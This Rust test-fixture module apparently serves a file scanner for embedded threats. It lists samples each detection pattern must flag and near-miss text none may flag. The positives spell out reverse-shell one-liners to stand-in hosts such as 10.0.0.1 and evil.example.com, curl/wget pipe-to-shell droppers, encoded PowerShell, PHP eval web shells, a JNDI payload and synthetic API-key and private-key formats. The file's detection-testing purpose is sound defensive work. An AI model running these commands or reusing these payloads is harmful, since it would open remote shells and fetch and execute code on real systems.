//! What each pattern must find, and what none may find.
//!
//! Secrets are put together here from halves, so that nothing in this file is
//! one.

use crate::report::Severity::{self, Critical, High, Low, Medium};

/// A run of bytes that one pattern finds.
pub(super) struct Example {
    pub pattern: &'static str,
    pub bytes: Vec<u8>,
    pub rule: &'static str,
    pub severity: Severity,
}

/// At least one example of every pattern.
pub(super) fn positive() -> Vec<Example> {
    let mut all = executables();
    all.extend(scripts());
    all.extend(commands());
    all.extend(secrets());
    all.extend(logins());
    all.extend(addresses());
    all.extend(super::archives::samples::positive());
    all
}

fn example(
    pattern: &'static str,
    rule: &'static str,
    severity: Severity,
    bytes: impl Into<Vec<u8>>,
) -> Example {
    Example {
        pattern,
        bytes: bytes.into(),
        rule,
        severity,
    }
}

/// `len` zeros with these fields written into them.
fn header(len: usize, fields: &[(usize, &[u8])]) -> Vec<u8> {
    let mut bytes = vec![0; len];
    for (at, field) in fields {
        bytes[*at..at + field.len()].copy_from_slice(field);
    }
    bytes
}

fn executables() -> Vec<Example> {
    let all = [
        ("elf", elf64(b"\x03\0\x3e\0\x01")),
        ("elf", elf32()),
        ("elf", object()),
        ("pe-i386", pe([0x4c, 1], [0x0b, 1])),
        ("pe-amd64", pe([0x64, 0x86], [0x0b, 2])),
        ("pe-arm", pe([0xc4, 1], [0x0b, 1])),
        ("pe-arm64", pe([0x64, 0xaa], [0x0b, 2])),
        ("mach-o-32", mach(b"\xce\xfa\xed\xfe", false)),
        ("mach-o-64", mach(b"\xcf\xfa\xed\xfe", false)),
        ("mach-o-32-big", mach(b"\xfe\xed\xfa\xce", true)),
        ("mach-o-64-big", mach(b"\xfe\xed\xfa\xcf", true)),
        (
            "mach-o-fat",
            fat(b"\xca\xfe\xba\xbe", &[2, 0x0100_0007, 3, 0x4000, 9000, 14]),
        ),
        (
            "mach-o-fat-64",
            fat(
                b"\xca\xfe\xba\xbf",
                &[1, 0x0100_000c, 3, 0, 0x4000, 0, 9000],
            ),
        ),
        (
            "dex",
            header(
                112,
                &[(0, b"dex\n035\0"), (36, b"\x70"), (40, b"\x78\x56\x34\x12")],
            ),
        ),
        (
            "lnk",
            b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\x9b".to_vec(),
        ),
    ];
    let program = |(pattern, bytes)| example(pattern, "embedded-executable", High, bytes);
    let wasm = *b"\0asm\x01\0\0\0\x01\x07\x01\x60";
    let gpu = elf64(b"\x02\0\xbe\0\x01");
    all.into_iter()
        .map(program)
        .chain([
            example("wasm", "embedded-executable", Medium, wasm),
            example("elf", "embedded-executable", Low, gpu),
        ])
        .collect()
}

/// A 64-bit program of this type and machine.
fn elf64(kind: &[u8]) -> Vec<u8> {
    header(
        64,
        &[
            (0, b"\x7fELF\x02\x01\x01"),
            (16, kind),
            (32, b"\x40"),
            (52, b"\x40\0\x38\0\x0b\0\x40\0"),
        ],
    )
}

/// A 32-bit program for MIPS, big endian. Its class, data and version bytes
/// are wrong: the kernel does not care.
fn elf32() -> Vec<u8> {
    header(
        64,
        &[
            (0, b"\x7fELF\xff\xff\xff"),
            (16, b"\0\x02\0\x08\0\0\0\x07"),
            (40, b"\0\0\0\x20\0\x03"),
        ],
    )
}

/// An object file: no program headers, but section headers.
fn object() -> Vec<u8> {
    header(
        64,
        &[
            (0, b"\x7fELF\x02\x01\x01"),
            (16, b"\x01\0\x3e\0\x01"),
            (52, b"\x40\0\0\0\0\0\x40\0\x0c\0"),
        ],
    )
}

/// A Windows library for this machine, with a second `MZ` in its stub.
fn pe(machine: [u8; 2], magic: [u8; 2]) -> Vec<u8> {
    header(
        0x200,
        &[
            (0, b"MZ\x90\0MZ"),
            (0x3c, b"\x80"),
            (0x80, b"PE\0\0"),
            (0x84, &machine),
            (0x86, b"\x05\0"),
            (0x94, b"\xf0\0\x22\x20"),
            (0x98, &magic),
        ],
    )
}

/// A Mach-O program for x86-64 with sixteen load commands.
fn mach(magic: &[u8], big: bool) -> Vec<u8> {
    let word = |n: u32| {
        if big {
            n.to_be_bytes()
        } else {
            n.to_le_bytes()
        }
    };
    let words = [0x0100_0007, 3, 2, 16, 1296, 0, 0x19, 72, 72].into_iter();
    magic.iter().copied().chain(words.flat_map(word)).collect()
}

/// A fat header and its first architecture.
fn fat(magic: &[u8], words: &[u32]) -> Vec<u8> {
    let words = words.iter().flat_map(|w| w.to_be_bytes());
    magic.iter().copied().chain(words).collect()
}

fn scripts() -> Vec<Example> {
    [
        ("script-bin", "\u{1}#!/bin/sh\necho hello to everyone\n"),
        (
            "script-usr",
            "\u{1}#!/usr/bin/env python3\nimport os\nos.getcwd()\n",
        ),
        (
            "script-blank-bin",
            "\u{0}#! /bin/bash -e\r\ntouch /tmp/of/the/day\r\n",
        ),
        (
            "script-blank-usr",
            "\u{0}#! /usr/bin/perl -w\nprint 'hello, hello';\n",
        ),
    ]
    .map(|(pattern, text)| example(pattern, "embedded-script", High, text))
    .into()
}

fn commands() -> Vec<Example> {
    let shell = |pattern, text: &str| example(pattern, "embedded-reverse-shell", Critical, text);
    let dropper = |pattern, text: &str| example(pattern, "embedded-dropper", High, text);
    let code = |pattern, text: &str| example(pattern, "embedded-code-evaluation", High, text);
    let miner = |pattern, text: &str| example(pattern, "embedded-miner-configuration", High, text);
    let wide: Vec<u8> = "Start-Process calc".bytes().flat_map(|b| [b, 0]).collect();
    let wide = base64(&wide);
    vec![
        shell("dev-tcp", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
        shell("dev-tcp", "exec 5<>/dev/tcp/evil.example.com/443;cat <&5"),
        shell("dev-udp", "sh -i >& /dev/udp/10.0.0.1/53 0>&1"),
        shell("netcat-shell", "nc 10.0.0.1 4444 -e /bin/sh"),
        shell("netcat-shell", "x;ncat --ssl host 1 -e /bin/bash\n"),
        shell(
            "piped-shell",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
        ),
        shell(
            "dup2-socket",
            "s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);",
        ),
        shell("pty-spawn", "import pty; pty.spawn(\"/bin/bash\")"),
        dropper(
            "curl-pipe",
            "curl -fsSL https://example.com/x | sudo bash -s -- -y",
        ),
        dropper("curl-pipe", "/usr/bin/curl -s http://10.0.0.1/a.py|python3"),
        dropper(
            "curl-pipe",
            "sh -c \"$(curl -fsSL https://example.com/install.sh)\"",
        ),
        dropper("curl-pipe", "bash <(curl -s https://example.com/x)"),
        dropper("wget-pipe", "wget -qO- http://example.com/x | sh"),
        dropper(
            "chmod-run",
            "wget http://10.0.0.1/m -O /tmp/m; chmod +x /tmp/m; /tmp/m",
        ),
        dropper("base64-pipe", "echo aWQ= | base64 -d | bash"),
        dropper("base64-pipe", "base64 --decode <<< aWQ= | sh"),
        dropper("brace-base64", "bash -c {echo,aWQ=}|{base64,-d}|{bash,-i}"),
        dropper(
            "powershell",
            &format!("powershell -nop -w hidden -enc {wide}"),
        ),
        dropper(
            "powershell",
            &format!("powershell.exe -EncodedCommand {wide}"),
        ),
        dropper("powershell-title", &format!("PowerShell /ec {wide}")),
        dropper("powershell-capital", &format!("POWERSHELL -E {wide}")),
        dropper("pwsh", &format!("pwsh -e {wide}")),
        dropper(
            "download-string",
            "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
        ),
        dropper(
            "certutil",
            "certutil -urlcache -split -f http://x/a.exe a.exe",
        ),
        dropper("mshta", "mshta http://x/a.hta"),
        code("exec", "exec(base64.b64decode('aW1wb3J0IG9z'))"),
        code("exec", "; exec( compile(zlib.decompress(x), '', 'exec'))"),
        code("exec", "exec(__import__('zlib').decompress(x))"),
        code("eval", "eval(atob('YWxlcnQoMSk='))"),
        code("eval", "<?php eval(base64_decode('aWQ='));"),
        code("eval", "<?php @eval($_POST['x']);"),
        code("import-call", "__import__('os').system('id')"),
        code(
            "import-call",
            "{{ __import__(\\\"subprocess\\\").check_output(\\\"id\\\") }}",
        ),
        code("jndi", "${jndi:ldap://x.example.com/a}"),
        miner(
            "stratum",
            "\"url\": \"stratum+tcp://pool.example.com:3333\"",
        ),
        miner("stratum2", "stratum2+tcp://pool.example.com:3336/9b"),
    ]
}

fn secrets() -> Vec<Example> {
    [
        hosts(),
        hugging_face(),
        chats(),
        services(),
        web_tokens(),
        keys(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

fn token(pattern: &'static str, prefix: &str, body: &str) -> Example {
    example(
        pattern,
        "secret-access-token",
        High,
        format!(" {prefix}{body}\n"),
    )
}

/// Places of code and computers.
fn hosts() -> Vec<Example> {
    let id = format!(" {}{}", "AKIA", "Q3ZJ7MNB2XWPL5TK\n");
    let pair = format!(" {}{} {}9a8b7c\n", "ASIA", "Q3ZJ7MNB2XWPL5TK", word(34));
    vec![
        example("aws-permanent", "secret-access-token", Low, id),
        example("aws-temporary", "secret-access-token", High, pair),
        token("github-personal", "ghp_", &checked(7)),
        token("github-oauth", "gho_", &checked(8)),
        token("github-user", "ghu_", &checked(9)),
        token("github-server", "ghs_", &checked(10)),
        token("github-refresh", "ghr_", &checked(11)),
        token(
            "github-fine-grained",
            "github_pat_",
            &format!("{}_{}", word(22), word(59)),
        ),
        token("gitlab", "glpat-", &word(20)),
        token("npm", "npm_", &checked(12)),
        token("pypi", "pypi-AgEIcHlwaS5vcmc", &word(80)),
        token("digitalocean", "dop_v1_", HEX),
        token("databricks", "dapi", &HEX[..32]),
        token("azure-storage", "AccountKey=", &format!("{}==", word(86))),
    ]
}

/// Services for models, signed links, databases.
fn logins() -> Vec<Example> {
    let login = |pattern, scheme: &str| {
        let text = format!(" {scheme}app:{}@db.acme-models.net:5432/x\n", "q7Tz9LmW2x");
        example(pattern, "secret-access-token", High, text)
    };
    vec![
        token("openrouter", "sk-or-v1-", HEX),
        token("nvidia", "nvapi-", &word(64)),
        token("perplexity", "pplx-", &word(48)),
        token(
            "langsmith",
            "lsv2_pt_",
            &format!("{}_{}", &HEX[..32], &HEX[..10]),
        ),
        token("pinecone", "pcsk_", &word(70)),
        example(
            "replicate",
            "secret-access-token",
            High,
            format!("=r8_{}\n", word(37)),
        ),
        example(
            "replicate-quoted",
            "secret-access-token",
            High,
            format!("\"r8_{}\"", word(37)),
        ),
        example(
            "azure-signature",
            "secret-access-token",
            High,
            format!(
                "https://x.blob.core.windows.net/m?sv=2024-01-01&se=2030&sig={}%3D\"",
                word(43)
            ),
        ),
        login("postgres", "postgres://"),
        login("postgresql", "postgresql://"),
        login("mysql", "mysql://"),
        login("mongodb", "mongodb://"),
        login("mongodb-srv", "mongodb+srv://"),
        login("redis", "redis://"),
        login("rediss", "rediss://"),
        login("amqp", "amqp://"),
    ]
}

/// Collectors, tunnels, numbers and scripts.
fn addresses() -> Vec<Example> {
    let hidden = "abcdefghij234567abcdefghij234567abcdefghij234567abcdefgh";
    let mut all: Vec<Example> = super::network::hosts()
        .map(|(name, host)| {
            let front = if host.starts_with('.') { "a1b2" } else { "" };
            let text = format!("\"https://{front}{host}x/y\"");
            let text = if host.ends_with('/') || host.ends_with("bot") {
                text
            } else {
                text.replace("x/y", "/y")
            };
            let severity = if name == "telegram" { Low } else { Medium };
            example(name, "network-collector-address", severity, text)
        })
        .collect();
    for (name, text) in [
        ("onion", format!("http://{hidden}.onion/x")),
        ("onion-quoted", format!("\"{hidden}.onion\"")),
        ("onion-port", format!(" {hidden}.onion:80")),
    ] {
        all.push(example(name, "network-collector-address", Medium, text));
    }
    for (name, text) in [
        ("raw-http", "\"http://185.199.108.153:8080/x\""),
        ("raw-https", "\"https://185.199.108.153/x\""),
        ("raw-ftp", "'ftp://185.199.108.153/x'"),
    ] {
        all.push(example(name, "network-raw-address", Low, text));
    }
    for (name, text) in [
        (
            "script-html",
            "\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"",
        ),
        (
            "script-js",
            "\"data:text/javascript,alert(document.domain)//\"",
        ),
        (
            "script-application",
            "\"data:application/javascript;base64,YWxlcnQoZG9jdW1lbnQpOw==\"",
        ),
        ("script-link", "href=\"javascript:alert(document.cookie)\""),
    ] {
        all.push(example(name, "network-script-url", Medium, text));
    }
    all
}

const HEX: &str = "0f1e9c8b7a6d5e4c3b2a1908f7e6d5c4b3a291807f6e5d4c3b2a19087f6e5d4c";

fn hugging_face() -> Vec<Example> {
    let user = |(pattern, before)| {
        let text = format!("{before}hf_{}\n", word(34));
        example(pattern, "secret-access-token", High, text)
    };
    let organisation = token("huggingface-organisation", "api_org_", &word(34));
    [
        ("huggingface-double-quoted", "\""),
        ("huggingface-quoted", "'"),
        ("huggingface-assigned", "="),
        ("huggingface-blank", " "),
        ("huggingface-tab", "\t"),
        ("huggingface-line", "\n"),
        ("huggingface-colon", ":"),
        ("huggingface-at", "@"),
        ("huggingface-slash", "/"),
        ("huggingface-backtick", "`"),
        ("huggingface-length", "\u{c}%"),
        ("huggingface-zero", "X%\0\0\0"),
    ]
    .into_iter()
    .map(user)
    .chain([organisation])
    .collect()
}

fn chats() -> Vec<Example> {
    let slack = format!("218374650912-9081726354981-{}", word(24));
    vec![
        token("slack-bot", "xoxb-", &slack),
        token("slack-user", "xoxp-", &slack),
        token("slack-workspace", "xoxa-", &slack),
        token("slack-refresh", "xoxr-", &slack),
        token(
            "slack-webhook",
            "https://hooks.slack.com/services/",
            &format!("T1A2B3C4D/B5E6F7G8H/{}", word(24)),
        ),
        token(
            "discord-webhook",
            "https://discord.com/api/webhooks/",
            &format!("109283746556473829/{}", word(68)),
        ),
        token(
            "telegram-bot",
            "https://api.telegram.org/bot",
            &format!("1029384756:{}", word(35)),
        ),
    ]
}

fn services() -> Vec<Example> {
    vec![
        token("stripe-secret", "sk_live_", &word(24)),
        token("stripe-restricted", "rk_live_", &word(24)),
        token("google-api", "AIza", &word(35)),
        token("google-oauth", "GOCSPX-", &word(28)),
        token(
            "openai",
            "sk-proj-",
            &format!("{}T3BlbkFJ{}", word(20), word(20)),
        ),
        token(
            "anthropic",
            "sk-ant-",
            &format!("api03-{}-{}AA", word(50), word(36)),
        ),
        token("groq", "gsk_", &word(52)),
        token("xai", "xai-", &word(80)),
        token("sendgrid", "=SG.", &format!("{}.{}", word(22), word(43))),
    ]
}

fn web_tokens() -> Vec<Example> {
    let claims = base64(b"{\"sub\":\"someone\",\"admin\":true}");
    let token = |pattern, header: &str| {
        let text = format!("{}.{claims}.{}", base64(header.as_bytes()), word(43));
        let text = format!(" {}\n", text.replace('=', ""));
        example(pattern, "secret-access-token", Medium, text)
    };
    vec![
        token("jwt-algorithm", "{\"alg\":\"HS256\",\"typ\":\"JWT\"}"),
        token("jwt-type", "{\"typ\":\"JWT\",\"alg\":\"RS256\"}"),
        token("jwt-key", "{\"kid\":\"a1b2\",\"alg\":\"RS256\"}"),
    ]
}

fn keys() -> Vec<Example> {
    const OLD_HEADERS: &str = "KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\n";
    let key = |severity, text: String| example("private-key", "secret-private-key", severity, text);
    let ssh = [&b"openssh-key-v1\0"[..], &[7; 200]].concat();
    let old = armour("RSA PRIVATE KEY", &[9; 200], "\n").replacen("KEY-----\n", OLD_HEADERS, 1);
    vec![
        key(High, armour("PRIVATE KEY", &der(&[2, 1, 0], 300), "\n")),
        key(
            High,
            armour("RSA PRIVATE KEY", &der(&[2, 1, 0], 600), "\r\n"),
        ),
        key(High, armour("EC PRIVATE KEY", &der(&[2, 1, 1], 110), "\\n")),
        key(High, armour("OPENSSH PRIVATE KEY", &ssh, "\n")),
        key(
            Medium,
            armour("ENCRYPTED PRIVATE KEY", &der(&[0x30, 0x40], 200), "\n"),
        ),
        key(Medium, old),
    ]
}

/// `len` characters that look drawn at random.
fn word(len: usize) -> String {
    const LETTERS: &[u8] = b"q7RzT2mWb9KxVd4HpL8sYcJ3nGf6ZaUe5BtQiM1oEvSrNkDwPyCjXgFhAu";
    (0..len)
        .map(|i| LETTERS[(i * 23 + len) % LETTERS.len()] as char)
        .collect()
}

/// Thirty characters and their checksum, as GitHub and npm end their tokens.
fn checked(seed: usize) -> String {
    const DIGITS: &[u8] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
    let body = &word(30 + seed)[seed..];
    let mut sum = crc32fast::hash(body.as_bytes()) as usize;
    let mut digits = [b'0'; 6];
    for digit in digits.iter_mut().rev() {
        *digit = DIGITS[sum % 62];
        sum /= 62;
    }
    format!("{body}{}", String::from_utf8_lossy(&digits))
}

fn der(start: &[u8], len: usize) -> Vec<u8> {
    let mut bytes = vec![0x30, 0x82];
    bytes.extend((len as u16).to_be_bytes());
    bytes.extend(start);
    bytes.extend((start.len()..len).map(|i| (i * 37) as u8));
    bytes
}

fn armour(label: &str, body: &[u8], line_end: &str) -> String {
    let text = base64(body);
    let lines: Vec<&str> = text
        .as_bytes()
        .chunks(64)
        .map(|l| std::str::from_utf8(l).unwrap())
        .collect();
    let lines = lines.join(line_end);
    format!("-----BEGIN {label}-----{line_end}{lines}{line_end}-----END {label}-----{line_end}")
}

pub(super) fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    bytes
        .chunks(3)
        .flat_map(|group| {
            let bits = group.iter().fold(0u32, |bits, b| bits << 8 | u32::from(*b))
                << (8 * (3 - group.len()));
            (0..4).map(move |i| match i <= group.len() {
                true => DIGITS[(bits >> (18 - 6 * i) & 63) as usize] as char,
                false => '=',
            })
        })
        .collect()
}

/// Ordinary content that comes close: vocabularies, documentation, ordinary
/// code, published examples, cut keys.
pub(super) const NEGATIVE: &[&str] = &[
    // Tokenizer vocabularies and merges.
    r##"{"eval(": 4832, "exec(": 991, "os.system": 3321, "__import__": 22, "__import__(": 23, "/dev/tcp/": 7,
        "curl ": 9, "#!/bin/bash\n": 10, "#!/usr/bin/env": 11, "subprocess": 12, "base64 -": 13, "powershell": 14,
        "-----BEGIN ": 15, "-----BEGIN RSA PRIVATE KEY-----": 16, "hf_": 17, "AKIA": 18, "eyJhbGci": 19}"##,
    // Ordinary code.
    "exec(compile(open(path).read(), path, 'exec'))\neval(expression, {}, {})\nmodel.eval()\nre.exec(text)",
    "os.system('pip install -r requirements.txt')\nsubprocess.Popen(['ls', '-l'])\n__import__('os').environ",
    "os = __import__('os')\nmodule = __import__(name)\nnumpy = __import__(\"numpy\").array([1])",
    "os.dup2(devnull.fileno(), sys.stdout.fileno())\nos.dup2(log.fileno(), 1)",
    "pty.spawn(command)\npty.spawn(argv[0], read)",
    // Installation and waiting, without the second half.
    "curl -L https://example.com/model.bin -o model.bin\nwget https://example.com/model.bin | tee log",
    "curl https://example.com/data.json | jq .name | shasum\nlibcurl | sh https://x | bash_completion",
    "timeout 5 bash -c '</dev/tcp/localhost/8080' || exit 1\n(echo > /dev/tcp/db/5432) >/dev/null 2>&1",
    "chmod +x ./run.sh; ./run.sh\nchmod +x tool",
    "base64 -d model.b64 > model.bin\nbase64 --decode | gunzip",
    "powershell -ExecutionPolicy Bypass -File install.ps1\nPowerShell 7 -e is short for -EncodedCommand",
    "$client.DownloadString($url)\ncertutil -hashfile model.bin SHA256",
    "nc -l 4444\ngcc -e /bin/main\nrsync -e /bin/sh",
    "the stratum+tcp protocol, e.g. stratum+tcp://host",
    "${jndi:ldap} look-ups were removed",
    // Addresses of ordinary models and development.
    "https://huggingface.co/x http://localhost:8080 http://127.0.0.1:5000 http://192.168.1.10/x http://192.0.2.1/x http://203.0.113.7/ https://8.8.8.8/dns-query http://0.0.0.0:80",
    "https://download.pytorch.org/whl https://1.2.3/x http://10.0.0.1:8000/v1 version 1.2.3.4 webhook.site ngrok.io paste.ee/r/ transfer.sh",
    "https://my-transfer.sh.example.org/ https://notwebhook.sites/x data:image/png;base64,AAAA data:text/html javascript:void(0) onion: .onion/ a.onion:",
    "postgresql://user:password@localhost/db postgres://app:${PASSWORD}@db/x redis://127.0.0.1:6379/0 mysql://root:secretpassword@db.acme.com/x",
    // Scripts quoted in text.
    "Save this as run.sh:\n\n#!/bin/bash\nset -e\npython train.py --epochs 3\n",
    // Published and made-up examples of secrets.
    "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "export HF_TOKEN=hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\nlogin(token=\"hf_abcdefghijklmnopqrstuvwxyzABCDEFGH\")",
    "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx ghp_0123456789abcdefghijABCDEFGHIJ012345",
    "sk_live_YOUR_KEY_HERE sk-proj-... sk-ant-api03-... glpat-xxxxxxxxxxxxxxxxxxxx npm_run_build_and_test_everything",
    "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA...\n-----END RSA PRIVATE KEY-----",
    "-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBa\n-----END CERTIFICATE-----",
    "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n-----END PUBLIC KEY-----",
];
